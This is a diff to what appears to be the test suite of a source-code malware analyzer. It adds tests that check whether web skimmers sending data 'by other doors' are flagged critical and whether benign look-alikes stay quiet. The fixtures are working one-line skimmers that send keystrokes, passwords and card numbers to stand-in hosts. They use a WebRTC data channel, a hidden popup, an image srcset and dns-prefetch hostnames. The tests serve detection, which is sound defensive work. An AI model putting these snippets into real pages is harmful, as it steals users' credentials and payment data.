@@ -2486,6 +2486,27 @@ const ws = new WebSocket('wss://pool.example-wasm.net/ws'); ws.onmessage = (m) =
   });
 });
 
+describe('skimmers sending by other doors', () => {
+  const web = (code: string) => analyzeSource({ 'package.json': pkg(), 'index.js': code });
+  it('a WebRTC data channel, window.open, an image srcset, a dns-prefetch link named by the data, fields picked by name in a change handler', () => {
+    for (const code of [
+      `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.example-rtc.net:3478' }] }); const ch = pc.createDataChannel('d'); document.addEventListener('keydown', (e) => ch.send(e.key));`,
+      `document.querySelector('input[type=password]').addEventListener('blur', (e) => { window.open('https://login-check.example-sso.com/?p=' + encodeURIComponent(e.target.value), '_blank', 'width=1,height=1'); });`,
+      `document.querySelector('#card-number').addEventListener('input', (e) => { const i = new Image(); i.srcset = 'https://px.example-cdn.net/a.gif?c=' + e.target.value + ' 1x'; });`,
+      `document.addEventListener('change', (e) => { if (/card|cvv/i.test(e.target.name)) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + btoa(e.target.value).replace(/=/g, '') + '.x.example-cdn.net'; document.head.appendChild(l); } });`,
+    ])
+      expect(web(code).risk_level).toBe('critical');
+  });
+  it('a search box sending what is typed, a strength meter reading the password, a tenant login endpoint: quiet', () => {
+    for (const code of [
+      `document.querySelector('#q').addEventListener('input', (e) => fetch('https://search.example-docs.com/s?q=' + encodeURIComponent(e.target.value)));`,
+      `document.addEventListener('input', (e) => { if (e.target.type === 'password') document.querySelector('#meter').value = Math.min(4, e.target.value.length / 3); });`,
+      `module.exports = (tenant, password) => fetch('https://' + tenant + '.auth.example.com/token', { method: 'POST', body: JSON.stringify({ password }) });`,
+    ])
+      expect(threatsOf(web(code))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
